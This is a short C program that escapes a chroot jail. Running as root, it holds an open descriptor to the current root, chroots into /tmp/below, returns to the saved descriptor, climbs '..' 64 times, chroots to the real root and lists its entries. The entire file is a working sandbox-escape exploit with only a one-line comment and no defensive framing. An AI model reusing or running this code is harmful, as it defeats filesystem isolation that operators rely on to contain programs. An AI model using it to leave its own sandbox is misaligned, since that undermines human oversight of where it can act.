/* Leaves a chroot in the way that root of one can: by a directory that is open, and then upwards. Prints what is there. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/below", 0755);
    if (top < 0 || chroot("/tmp/below") || fchdir(top)) return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..")) return 2;
    if (chroot(".")) return 3;
    DIR *dir = opendir("/");
    if (!dir) return 4;
    for (struct dirent *entry; (entry = readdir(dir));)
        if (entry->d_name[0] != '.') puts(entry->d_name);
    return 0;
}
